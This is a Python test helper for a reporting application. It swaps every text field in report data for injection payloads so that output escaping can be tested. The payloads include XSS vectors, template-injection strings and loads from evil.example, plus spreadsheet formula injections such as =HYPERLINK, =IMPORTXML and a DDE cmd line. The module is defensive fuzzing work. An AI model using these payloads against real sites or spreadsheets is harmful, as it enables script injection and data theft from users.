"""Texts that strangers may write, made to run somewhere; and records in which every text is one of them."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from enum import StrEnum
from itertools import cycle
from pathlib import Path
from typing import Any

from attribution.report_rows import Kpi

#: Each would set window.PWN, open a dialog, or load something from elsewhere, where it were taken for markup, script, style or an address.
VECTORS = (
    "<script>window.PWN=1</script>", '"><img src=x onerror="window.PWN=1">', "'><svg/onload=window.PWN=1>", "<img src=x onerror=window.PWN=1//",
    "</textarea><script>window.PWN=1</script>", "</title><script>window.PWN=1</script>", "</style><script>window.PWN=1</script>",
    "--><script>window.PWN=1</script><!--", "]]><script>window.PWN=1</script>", "<iframe srcdoc='<script>parent.PWN=1</script>'></iframe>",
    '<a href="javascript:window.PWN=1">x</a>', "javascript:window.PWN=1", "JaVaScRiPt:window.PWN=1", "java\tscript:window.PWN=1", "\x01javascript:window.PWN=1",
    "data:text/html,<script>opener.PWN=1</script>", "vbscript:window.PWN=1", "<b onmouseover=window.PWN=1>b</b>", "<details open ontoggle=window.PWN=1>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.PWN=1>", "<svg><animate onbegin=window.PWN=1 attributeName=x dur=1s>",
    "<style>@import'//evil.example'</style>", "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>", "<img src=//evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<form action=//evil.example><button>x", "{{constructor.constructor('window.PWN=1')()}}",
    "${window.PWN=1}", "%{customdata}<extra></extra>", "<br><b>bold</b><a href='javascript:window.PWN=1'>a</a>", "<i style='background:url(//evil.example)'>",
    "&lt;script&gt;window.PWN=1&lt;/script&gt;", "\u003cscript\u003ewindow.PWN=1\u003c/script\u003e", "\\u003cscript>window.PWN=1\\u003c/script>",
    "\u202egnp.exe\u202c", "\u2066<script>window.PWN=1</script>\u2069", "<noscript><p title='</noscript><img src=x onerror=window.PWN=1>'>",
    "<select><template><img src=x onerror=window.PWN=1>", "<xss id=x tabindex=1 onfocus=window.PWN=1></xss>", "<!--<img src='--><img src=x onerror=window.PWN=1//'>",
    '![x](javascript:window.PWN=1) [a](javascript:window.PWN=1)', "<a href=\"https://x.example\" target=_self>top</a>",
)  # fmt: skip
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "  =1+1", "＝1+1", "＋1",
    "－1", "＠SUM(1)", "\u200b=1+1", "\ufeff=1+1", "\xa0=1+1", '=IMPORTXML("http://evil.example")', "%0A=1+1\n", "=1+1\n",
)  # fmt: skip
#: Texts that are names of ours and lead to others of our records.
OURS = frozenset({"id", "campaign", "campaigns", "model", "unit", "key", "parent"})


def every_vector(shared: Callable[[str], Path]) -> tuple[str, ...]:
    """These, and all of the Big List of Naughty Strings."""
    return (*VECTORS, *FORMULAS, *json.loads(shared("suites/blns/blns.json").read_text(encoding="utf-8")))


def poisoned(value: Any, words: Iterator[str], ours: frozenset[str] = OURS) -> Any:
    """The value with every text in it replaced; closed sets, keys of ours and numbers stay. Addresses become ones that hold the text, or are it."""
    if isinstance(value, StrEnum | Kpi):  # a key figure has numbers and a name of ours
        return value
    if isinstance(value, str):
        word = next(words)
        return f"https://x.example/{word}" if value.startswith("http") and len(word) % 2 else word
    if is_dataclass(value) and not isinstance(value, type):
        kept = {f.name: getattr(value, f.name) for f in fields(value)}
        return replace(value, **{n: v if n in ours else poisoned(v, words, ours) for n, v in kept.items()})
    if isinstance(value, tuple | list):
        return type(value)(poisoned(v, words, ours) for v in value)
    if isinstance(value, Mapping):
        return {k: poisoned(v, words, ours) for k, v in value.items()}
    return value


class Poisoned:
    """Reports whose every answer is written by strangers. Questions get through as they are."""

    def __init__(self, reports: Any, vectors: tuple[str, ...]) -> None:
        self._reports, self._words = reports, cycle(vectors)

    def __getattr__(self, name: str) -> Any:
        asked = getattr(self._reports, name)

        def answer(*said: Any, **more: Any) -> Any:
            found = asked(*said, **more)
            if isinstance(found, Iterator):
                return (poisoned(row, self._words) for row in found)
            return poisoned(found, self._words)

        return answer if callable(asked) else asked

    def signals(self, view: Any, kind: str, subjects: tuple[str, ...] = ()) -> Any:
        """Of all subjects: nobody here knows which one the name of an earlier answer stood for."""
        return poisoned(self._reports.signals(view, kind), self._words)
